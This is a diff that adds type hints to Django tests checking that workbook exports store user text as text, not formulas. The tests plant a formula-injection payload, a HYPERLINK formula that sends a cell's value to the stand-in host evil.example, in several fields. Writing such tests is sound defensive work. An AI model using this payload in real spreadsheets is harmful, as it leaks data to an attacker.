@@ -2,13 +2,21 @@
 could plant one in the supervisor's export through a blocker. Every workbook Luoshi writes keeps such text as
 text: no cell holds a formula (the 合计 figures are computed, not summed in the sheet)."""
 
+from collections.abc import Callable
 from io import BytesIO
 
 import openpyxl
+from django.contrib.auth.models import User
+from django.test import Client
 from django.urls import reverse
 
+from luoshi.assessment.models import Benchmark
 from luoshi.assessment.tests.test_benchmark_views import benchmark  # noqa: F401  (fixture)
-from luoshi.projects.tests.conftest import ledger  # noqa: F401  (fixture)
+from luoshi.conftest import World
+from luoshi.projects.tests.conftest import (
+    Ledger,
+    ledger,  # noqa: F401  (fixture)
+)
 
 EVIL = '=HYPERLINK("http://evil.example/"&D6,"x")'
 
@@ -24,7 +32,7 @@ def _assert_text_only(content: bytes, expected: int) -> None:
     assert sum(1 for c in cells if c.value == EVIL and c.data_type == "s") == expected
 
 
-def test_plan_export(world, login):
+def test_plan_export(world: World, login: Callable[[User], Client]) -> None:
     world.plan.title = EVIL
     world.plan.save(update_fields=["title"])
     world.item_a.code, world.item_a.goal = "", EVIL
@@ -35,7 +43,11 @@ def test_plan_export(world, login):
     _assert_text_only(response.content, expected=2)
 
 
-def test_ledger_export_with_a_blocker_planted_by_a_liaison(world, login, ledger):  # noqa: F811
+def test_ledger_export_with_a_blocker_planted_by_a_liaison(
+    world: World,
+    login: Callable[[User], Client],
+    ledger: Ledger,  # noqa: F811
+) -> None:
     ledger.factory.name = EVIL
     ledger.factory.save(update_fields=["name"])
     ledger.blocker.description = EVIL
@@ -46,7 +58,7 @@ def test_ledger_export_with_a_blocker_planted_by_a_liaison(world, login, ledger)
     _assert_text_only(response.content, expected=2)
 
 
-def test_gap_export(world, login, benchmark):  # noqa: F811
+def test_gap_export(world: World, login: Callable[[User], Client], benchmark: Benchmark) -> None:  # noqa: F811
     rival = next(name for name in benchmark.rows if name != benchmark.own_name)
     benchmark.rows = {(EVIL if name == rival else name): row for name, row in benchmark.rows.items()}
     benchmark.save(update_fields=["rows"])
